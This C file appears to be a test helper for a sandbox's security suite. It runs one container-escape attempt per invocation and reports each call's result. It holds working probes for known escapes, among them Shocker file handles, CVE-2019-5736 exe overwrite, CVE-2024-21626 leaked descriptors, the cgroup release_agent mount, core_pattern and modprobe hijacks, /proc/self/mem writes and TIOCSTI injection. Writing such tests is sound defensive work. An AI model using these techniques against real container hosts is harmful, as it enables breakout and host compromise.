/* One escape attempt per run, against the host kernel's surfaces and the known container
 * escapes:
 *
 *   escape_calls ATTEMPT HOST_DIR
 *
 * HOST_DIR is the host's absolute path of the directory that holds the host marker, the
 * rootfs and the volumes (tests/security/test_escape_suite.py builds it; the guest must never
 * reach it). Each attempt prints one line, `name: ok [detail]` or `name: ERRNO` for the call
 * that decides it, and the test compares it with what a sandbox must answer; the host side is
 * checked afterwards by tests/security/hostcheck.py. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <linux/perf_event.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <termios.h>

#include "oracle.h"

static const char *host_dir = "";
static const char *attempt = "";

/* The decisive call's answer: `ok` for r >= 0, else its errno's name. */
static void result(long r) {
    if (r < 0) say("%s: %s", attempt, errname(errno));
    else say("%s: ok", attempt);
}

static long sys(long nr, long a, long b, long c, long d, long e) {
    return syscall(nr, a, b, c, d, e, 0);
}

/* --- the host kernel's own surfaces ----------------------------------------------------- */

static void userfaultfd_(void) { result(sys(SYS_userfaultfd, O_CLOEXEC, 0, 0, 0, 0)); }

static void perf_event_open_(void) {
    struct perf_event_attr attr = {.type = PERF_TYPE_SOFTWARE, .size = sizeof attr,
                                   .config = PERF_COUNT_SW_CPU_CLOCK, .disabled = 1};
    result(sys(SYS_perf_event_open, (long)&attr, 0, -1, -1, 0));
}

static void bpf_prog_load(void) {
    /* r0 = 0; exit: the smallest socket filter program the verifier accepts. */
    uint64_t insns[2] = {0x00000000000000b7ULL, 0x0000000000000095ULL};
    struct {
        uint32_t prog_type, insn_cnt;
        uint64_t insns, license;
        uint32_t log_level, log_size;
        uint64_t log_buf;
        uint32_t kern_version, prog_flags;
    } attr = {.prog_type = 1 /* SOCKET_FILTER */, .insn_cnt = 2, .insns = (uintptr_t)insns,
              .license = (uintptr_t) "GPL"};
    result(sys(SYS_bpf, 5 /* BPF_PROG_LOAD */, (long)&attr, sizeof attr, 0, 0));
}

static void keyctl_describe(void) {
    char buf[256];
    /* KEYCTL_DESCRIBE of the user keyring: the host kernel's keyrings are not namespaced. */
    result(sys(SYS_keyctl, 6, -4 /* KEY_SPEC_USER_KEYRING */, (long)buf, sizeof buf, 0));
}

static void add_key_(void) {
    result(sys(SYS_add_key, (long)"user", (long)"edgevisor-escape", (long)"x", 1,
               -3 /* KEY_SPEC_SESSION_KEYRING */));
}

static void request_key_(void) {
    result(sys(SYS_request_key, (long)"user", (long)"edgevisor-escape", 0, 0, 0));
}

static void io_uring_enter_(void) { result(sys(SYS_io_uring_enter, 0, 1, 1, 0, 0)); }
static void io_uring_register_(void) { result(sys(SYS_io_uring_register, 0, 0, 0, 0, 0)); }
static void kexec_load_(void) { result(sys(SYS_kexec_load, 0, 0, 0, 0, 0)); }

static void init_module_(void) {
    static char image[64] = "\177ELF";
    result(sys(SYS_init_module, (long)image, sizeof image, (long)"", 0, 0));
}

static void finit_module_(void) {
    int fd = open("/bin/busybox", O_RDONLY | O_CLOEXEC);
    result(sys(SYS_finit_module, fd, (long)"", 0, 0, 0));
}

static void delete_module_(void) {
    result(sys(SYS_delete_module, (long)"edgevisor_absent", O_NONBLOCK, 0, 0, 0));
}

static void swapon_(void) {
    int fd = open("/v/swap", O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
    if (fd >= 0) close(fd);
    result(sys(SYS_swapon, (long)"/v/swap", 0, 0, 0, 0));
    unlink("/v/swap");
}

static void acct_(void) {
    int fd = open("/v/acct", O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
    if (fd >= 0) close(fd);
    result(sys(SYS_acct, (long)"/v/acct", 0, 0, 0, 0));
    unlink("/v/acct");
}

static void settimeofday_(void) {
    struct timeval now;
    gettimeofday(&now, NULL); /* the current time: harmless if it ever got through */
    result(sys(SYS_settimeofday, (long)&now, 0, 0, 0, 0));
}

static void clock_adjtime_(void) {
    char tx[208] = {0}; /* struct timex, modes 0: a query, refused all the same */
    result(sys(SYS_clock_adjtime, CLOCK_REALTIME, (long)tx, 0, 0, 0));
}

static void syslog_(void) {
    static char buf[4096];
    result(sys(SYS_syslog, 3 /* SYSLOG_ACTION_READ_ALL */, (long)buf, sizeof buf, 0, 0));
}

static void iopl_(void) { result(sys(SYS_iopl, 3, 0, 0, 0, 0)); }
static void ioperm_(void) { result(sys(SYS_ioperm, 0x80, 1, 1, 0, 0)); }

static void modify_ldt_(void) {
    struct {
        unsigned entry, base, limit, flags;
    } desc = {0, 0, 0xfffff, 0x51}; /* a 32-bit data segment */
    result(sys(SYS_modify_ldt, 1, (long)&desc, sizeof desc, 0, 0));
}

static void fanotify_init_(void) { result(sys(SYS_fanotify_init, 0, O_RDONLY, 0, 0, 0)); }

static void quotactl_(void) {
    char buf[72];
    result(sys(SYS_quotactl, 0x800007 /* Q_GETQUOTA, USRQUOTA */, (long)"/", 0, (long)buf, 0));
}

/* --- Shocker and file handles ------------------------------------------------------------ */

static void name_to_handle_at_(void) {
    struct {
        unsigned bytes;
        int type;
        unsigned char h[128];
    } fh = {.bytes = 128};
    int mnt;
    result(sys(SYS_name_to_handle_at, AT_FDCWD, (long)"/bin/busybox", (long)&fh, (long)&mnt, 0));
}

static void open_by_handle_shocker(void) {
    /* Shocker's handle: ext4's FILEID_INO32_GEN for inode 2, the root of the host's disk. */
    struct {
        unsigned bytes;
        int type;
        uint32_t ino, gen;
    } fh = {8, 1, 2, 0};
    int dir = open("/", O_RDONLY | O_DIRECTORY);
    result(sys(SYS_open_by_handle_at, dir, (long)&fh, O_RDONLY, 0, 0));
}

/* --- mounts and namespaces --------------------------------------------------------------- */

static void mount_bind_root(void) {
    mkdir("/v/bound", 0755);
    result(mount("/", "/v/bound", NULL, MS_BIND | MS_REC, NULL));
    rmdir("/v/bound");
}

static void remount_ro_volume_rw(void) {
    result(mount(NULL, "/ro", NULL, MS_REMOUNT | MS_BIND, NULL));
}

static void mount_make_shared(void) { result(mount(NULL, "/", NULL, MS_REC | MS_SHARED, NULL)); }
static void umount_proc(void) { result(umount2("/proc", MNT_DETACH)); }

static void open_tree_clone(void) {
    result(sys(SYS_open_tree, AT_FDCWD, (long)"/", 1 /* OPEN_TREE_CLONE */ | 0x8000, 0, 0));
}

static void fsopen_tmpfs(void) { result(sys(SYS_fsopen, (long)"tmpfs", 0, 0, 0, 0)); }
static void fspick_ro(void) { result(sys(SYS_fspick, AT_FDCWD, (long)"/ro", 0, 0, 0)); }

static void mount_setattr_ro(void) {
    uint64_t attr[4] = {0, 1 /* clear MOUNT_ATTR_RDONLY */, 0, 0};
    result(sys(SYS_mount_setattr, AT_FDCWD, (long)"/ro", 0, (long)attr, sizeof attr));
}

static void pivot_root_(void) {
    if (chdir("/v") < 0) die("chdir /v");
    result(sys(SYS_pivot_root, (long)".", (long)".", 0, 0, 0));
}

static void unshare_mount(void) { result(unshare(CLONE_NEWNS)); }

static void setns_proc_ns(void) {
    int fd = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        result(fd);
        return;
    }
    result(setns(fd, 0));
}

static void setns_pidfd(void) {
    int fd = sys(SYS_pidfd_open, getpid(), 0, 0, 0, 0);
    if (fd < 0) die("pidfd_open");
    result(setns(fd, CLONE_NEWNS | CLONE_NEWNET | CLONE_NEWPID));
}

static void clone3_newuser(void) {
    struct {
        uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
    } args = {.flags = CLONE_NEWUSER | CLONE_NEWNS, .exit_signal = SIGCHLD};
    long r = sys(SYS_clone3, (long)&args, sizeof args, 0, 0, 0);
    if (r == 0) _exit(0);
    if (r > 0) waitpid(r, NULL, 0);
    result(r);
}

/* The classic chroot escape, with a directory descriptor kept from before the chroot: climb
 * from it, chroot to wherever that ends, then try the host marker by its host path. */
static void chroot_fd_escape(void) {
    char path[4096];
    int top = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/jail", 0755);
    if (chroot("/tmp/jail") < 0) die("chroot");
    if (fchdir(top) < 0) die("fchdir");
    for (int i = 0; i < 64; i++) chdir("..");
    if (chroot(".") < 0) die("chroot .");
    snprintf(path, sizeof path, "%s/marker", host_dir);
    result(open(path, O_RDWR));
}

/* --- runc's CVEs ------------------------------------------------------------------------- */

/* CVE-2019-5736: keep a handle on another process's /proc/PID/exe, let it exit, and reopen
 * the handle for writing to replace the binary it ran. */
static void exe_overwrite(const char *binary) {
    char path[64];
    int ready[2];
    if (pipe2(ready, O_CLOEXEC) < 0) die("pipe2");
    pid_t child = fork();
    if (child == 0) {
        execl(binary, "sleep", "100", (char *)NULL);
        _exit(127);
    }
    /* End of file once the exec closed the child's end: /proc/CHILD/exe is the binary. */
    char byte;
    close(ready[1]);
    if (read(ready[0], &byte, 1) != 0) die("exec");
    int fd;
    snprintf(path, sizeof path, "/proc/%d/exe", child);
    fd = open(path, O_PATH);
    if (fd < 0) die("open exe O_PATH");
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int w = open(path, O_WRONLY | O_TRUNC);
    if (w < 0) {
        result(w);
        return;
    }
    result(write(w, "#!/bin/sh\n", 10));
}

static void exe_overwrite_rootfs(void) { exe_overwrite("/bin/busybox"); }
static void exe_overwrite_ro_volume(void) { exe_overwrite("/ro/busybox"); }

static void exe_of_every_process(void) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    int opened = 0, tried = 0;
    while ((e = readdir(d))) {
        char path[300];
        if (e->d_name[0] < '1' || e->d_name[0] > '9') continue;
        snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
        int fd = open(path, O_WRONLY);
        tried++;
        if (fd >= 0) opened++;
    }
    say("%s: ok %s", attempt, tried && !opened ? "none writable" : "WRITABLE");
}

/* CVE-2024-21626: a descriptor of a host directory left open lets a process chdir into the
 * host (runc's workdir /proc/self/fd/7). Try every open descriptor both ways, climb, and look
 * for the host marker by its path relative to the host's root. */
static int reaches_host(void) {
    char rel[4096];
    for (int i = 0; i < 64; i++) chdir("..");
    snprintf(rel, sizeof rel, ".%s/marker", host_dir);
    int fd = open(rel, O_RDONLY);
    if (fd >= 0) close(fd);
    return fd >= 0;
}

static void leaked_cwd(int by_proc_path) {
    int tried = 0, leaks = 0;
    int home = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    for (int fd = 0; fd < 1024; fd++) {
        if (fd == home || fcntl(fd, F_GETFD) < 0) continue;
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        if ((by_proc_path ? chdir(path) : fchdir(fd)) < 0) continue;
        tried++;
        leaks += reaches_host();
        fchdir(home);
    }
    static const char *links[] = {"/proc/1/cwd", "/proc/1/root", "/proc/self/cwd",
                                  "/proc/self/root", "/proc/thread-self/cwd"};
    for (unsigned i = 0; by_proc_path && i < sizeof links / sizeof *links; i++)
        if (chdir(links[i]) == 0) {
            tried++;
            leaks += reaches_host();
            fchdir(home);
        }
    say("%s: ok %s", attempt, leaks ? "LEAKED" : "clean");
}

static void leaked_cwd_fchdir(void) { leaked_cwd(0); }
static void leaked_cwd_proc_fd(void) { leaked_cwd(1); }

/* --- /proc, /sys and devices ------------------------------------------------------------- */

/* /proc/self/mem writes with FOLL_FORCE: a private mapping of a file is copied on write, the
 * file itself must never change. */
static void proc_mem_cow(const char *file) {
    int fd = open(file, O_RDONLY);
    if (fd < 0) die("open file");
    char *map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    if (map == MAP_FAILED) die("mmap");
    int mem = open("/proc/self/mem", O_RDWR);
    if (mem < 0) {
        result(mem);
        return;
    }
    if (pwrite(mem, "PWNED", 5, (uintptr_t)map) < 0) {
        result(-1);
        return;
    }
    char again[5];
    int fresh = open(file, O_RDONLY);
    if (fresh < 0 || read(fresh, again, 5) != 5) die("reread");
    say("%s: ok %s", attempt, memcmp(again, "PWNED", 5) ? "file unchanged" : "FILE CHANGED");
}

static void proc_mem_ro_volume(void) { proc_mem_cow("/ro/file"); }
static void proc_mem_rootfs(void) { proc_mem_cow("/bin/busybox"); }

static void write_file(const char *path, const char *text) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
        result(fd);
        return;
    }
    result(write(fd, text, strlen(text)));
}

static void read_file(const char *path) {
    char buf[64];
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        result(fd);
        return;
    }
    result(read(fd, buf, sizeof buf));
}

static void proc_kcore(void) { read_file("/proc/kcore"); }
static void proc_kmsg(void) { read_file("/proc/kmsg"); }
static void dev_kmsg(void) { read_file("/dev/kmsg"); }
static void sysrq_trigger(void) { write_file("/proc/sysrq-trigger", "h"); }
static void core_pattern(void) { write_file("/proc/sys/kernel/core_pattern", "|/v/payload"); }
static void modprobe_path(void) { write_file("/proc/sys/kernel/modprobe", "/v/payload"); }
static void proc_sys_hostname(void) { write_file("/proc/sys/kernel/hostname", "escaped"); }
static void uevent_helper(void) { write_file("/sys/kernel/uevent_helper", "/v/payload"); }
static void cgroup_procs(void) { write_file("/sys/fs/cgroup/cgroup.procs", "1"); }

static void sethostname_(void) {
    char name[65] = "";
    if (sethostname("escaped", 7) < 0) {  /* no CAP_SYS_ADMIN: Linux's EPERM */
        say("%s: %s", attempt, errname(errno));
        return;
    }
    gethostname(name, sizeof name);
    say("%s: ok %s", attempt, name); /* the sandbox's own name; the host's stays */
}

/* The cgroup v1 release_agent escape (CVE-2022-0492): mount a hierarchy to set it. */
static void cgroup_release_agent(void) {
    mkdir("/tmp/cg", 0755);
    result(mount("cgroup", "/tmp/cg", "cgroup", 0, "rdma"));
}

static void mknod_dev_mem(void) { result(mknod("/dev/mem", S_IFCHR | 0600, makedev(1, 1))); }
static void mknod_volume_disk(void) { result(mknod("/v/sda", S_IFBLK | 0600, makedev(8, 0))); }

/* --- other processes: the Sentry and the gofer ------------------------------------------- */

static void ptrace_traceme(void) { result(sys(SYS_ptrace, 0 /* TRACEME */, 0, 0, 0, 0)); }

static void process_vm_writev_(void) {
    char buf[8] = "x";
    struct iovec local = {buf, 1}, remote = {buf, 1};
    pid_t child = fork();
    if (child == 0) {
        pause();
        _exit(0);
    }
    result(sys(SYS_process_vm_writev, child, (long)&local, 1, (long)&remote, 1));
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
}

static void pidfd_getfd_(void) {
    int pidfd = sys(SYS_pidfd_open, getpid(), 0, 0, 0, 0);
    result(sys(SYS_pidfd_getfd, pidfd, 0, 0, 0, 0));
}

static void kcmp_(void) { result(sys(SYS_kcmp, getpid(), getpid(), 0 /* KCMP_FILE */, 0, 0)); }

/* kill -1 reaches every process the sender may signal: in the sandbox, only its own. */
static void kill_minus_1(void) {
    pid_t child = fork();
    if (child == 0) {
        pause();
        _exit(0);
    }
    if (kill(-1, SIGKILL) < 0) die("kill -1");
    int status;
    waitpid(child, &status, 0);
    say("%s: ok %s", attempt, WIFSIGNALED(status) ? "own child killed" : "child lived");
}

/* Every pid the guest can signal is its own: the Sentry and the gofer have none here. */
static void signal_scan(void) {
    int alive = 0;
    for (int pid = 2; pid < 4096; pid++)
        if (kill(pid, 0) == 0 || errno == EPERM) alive++;
    say("%s: ok %d others", attempt, alive);
}

static void rlimit_over_hard(void) {
    struct rlimit rl;
    getrlimit(RLIMIT_NOFILE, &rl);
    rl.rlim_max += 1;
    rl.rlim_cur = rl.rlim_max;
    result(setrlimit(RLIMIT_NOFILE, &rl));
}

/* A socket of a family with no built-in code makes the kernel load its module. */
static void socket_module_autoload(void) {
    int made = 0;
    for (int family = 3; family < 46; family++) {
        if (family == AF_INET6 || family == AF_NETLINK || family == AF_PACKET) continue;
        for (int type = 1; type <= 5; type++) {
            int fd = socket(family, type, 0);
            if (fd >= 0) {
                made++;
                close(fd);
            } else if (errno != EAFNOSUPPORT) {
                say("%s: family %d type %d %s", attempt, family, type, errname(errno));
                return;
            }
        }
    }
    say("%s: ok %d made", attempt, made);
}

/* --- the terminal: fd 0 is a pty the test holds, the sandbox's controlling terminal ------ */

static void tiocsti(unsigned long request, int fd) {
    char c = 'x';
    result(sys(SYS_ioctl, fd, request, (long)&c, 0, 0));
}

static void tiocsti_pty(void) { tiocsti(TIOCSTI, 0); }
static void tiocsti_high_bits_pty(void) { tiocsti(TIOCSTI | 1UL << 32, 0); }
static void tiocsti_dev_tty(void) { tiocsti(TIOCSTI, open("/dev/tty", O_RDWR)); }
static void tiocsti_dup_pty(void) { tiocsti(TIOCSTI, fcntl(0, F_DUPFD, 500)); }

static void tioclinux_pty(void) {
    char sub[2] = {2 /* TIOCL_SETSEL: paste from the console's selection */, 0};
    result(sys(SYS_ioctl, 0, TIOCLINUX, (long)sub, 0, 0));
}

static void tioccons_pty(void) { result(ioctl(0, TIOCCONS)); }

/* --- foreign ABIs, with a payload that would change the rw volume ------------------------ */

static void x32_mkdir(void) {
    long r, nr = 0x40000000L | 83; /* x32 mkdir */
    __asm__ volatile("syscall" : "=a"(r) : "a"(nr), "D"("/v/x32made"), "S"(0755L)
                     : "rcx", "r11", "memory");
    errno = -r;
    result(r < 0 && r > -4096 ? -1 : r);
}

static void int80_mkdir(void) {
    static char path[] = "/v/int80made"; /* static: below 4 GiB, which int 0x80 needs */
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(39L), "b"(path), "c"(0755L) : "memory");
    errno = -r;
    result(r < 0 && r > -4096 ? -1 : r);
}

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: escape_calls ATTEMPT HOST_DIR\n");
        return 2;
    }
    attempt = argv[1];
    host_dir = argv[2];
    static const struct {
        const char *name;
        void (*run)(void);
    } attempts[] = {
        {"userfaultfd", userfaultfd_}, {"perf_event_open", perf_event_open_},
        {"bpf_prog_load", bpf_prog_load}, {"keyctl_describe", keyctl_describe},
        {"add_key", add_key_}, {"request_key", request_key_},
        {"io_uring_enter", io_uring_enter_}, {"io_uring_register", io_uring_register_},
        {"kexec_load", kexec_load_}, {"init_module", init_module_},
        {"finit_module", finit_module_}, {"delete_module", delete_module_},
        {"swapon", swapon_}, {"acct", acct_}, {"settimeofday", settimeofday_},
        {"clock_adjtime", clock_adjtime_}, {"syslog", syslog_}, {"iopl", iopl_},
        {"ioperm", ioperm_}, {"modify_ldt", modify_ldt_}, {"fanotify_init", fanotify_init_},
        {"quotactl", quotactl_}, {"name_to_handle_at", name_to_handle_at_},
        {"open_by_handle_shocker", open_by_handle_shocker},
        {"mount_bind_root", mount_bind_root}, {"remount_ro_volume_rw", remount_ro_volume_rw},
        {"mount_make_shared", mount_make_shared}, {"umount_proc", umount_proc},
        {"open_tree_clone", open_tree_clone}, {"fsopen_tmpfs", fsopen_tmpfs},
        {"fspick_ro", fspick_ro}, {"mount_setattr_ro", mount_setattr_ro},
        {"pivot_root", pivot_root_}, {"unshare_mount", unshare_mount},
        {"setns_proc_ns", setns_proc_ns}, {"setns_pidfd", setns_pidfd},
        {"clone3_newuser", clone3_newuser}, {"chroot_fd_escape", chroot_fd_escape},
        {"exe_overwrite_rootfs", exe_overwrite_rootfs},
        {"exe_overwrite_ro_volume", exe_overwrite_ro_volume},
        {"exe_of_every_process", exe_of_every_process},
        {"leaked_cwd_fchdir", leaked_cwd_fchdir}, {"leaked_cwd_proc_fd", leaked_cwd_proc_fd},
        {"proc_mem_ro_volume", proc_mem_ro_volume}, {"proc_mem_rootfs", proc_mem_rootfs},
        {"proc_kcore", proc_kcore}, {"proc_kmsg", proc_kmsg}, {"dev_kmsg", dev_kmsg},
        {"sysrq_trigger", sysrq_trigger}, {"core_pattern", core_pattern},
        {"modprobe_path", modprobe_path}, {"proc_sys_hostname", proc_sys_hostname},
        {"uevent_helper", uevent_helper}, {"cgroup_procs", cgroup_procs},
        {"sethostname", sethostname_}, {"cgroup_release_agent", cgroup_release_agent},
        {"mknod_dev_mem", mknod_dev_mem}, {"mknod_volume_disk", mknod_volume_disk},
        {"ptrace_traceme", ptrace_traceme}, {"process_vm_writev", process_vm_writev_},
        {"pidfd_getfd", pidfd_getfd_}, {"kcmp", kcmp_}, {"kill_minus_1", kill_minus_1},
        {"signal_scan", signal_scan}, {"rlimit_over_hard", rlimit_over_hard},
        {"socket_module_autoload", socket_module_autoload},
        {"tiocsti_pty", tiocsti_pty}, {"tiocsti_high_bits_pty", tiocsti_high_bits_pty},
        {"tiocsti_dev_tty", tiocsti_dev_tty}, {"tiocsti_dup_pty", tiocsti_dup_pty},
        {"tioclinux_pty", tioclinux_pty}, {"tioccons_pty", tioccons_pty},
        {"x32_mkdir", x32_mkdir}, {"int80_mkdir", int80_mkdir},
    };
    for (unsigned i = 0; i < sizeof attempts / sizeof *attempts; i++)
        if (!strcmp(attempt, attempts[i].name)) {
            attempts[i].run();
            return 0;
        }
    fprintf(stderr, "escape_calls: unknown attempt %s\n", attempt);
    return 2;
}
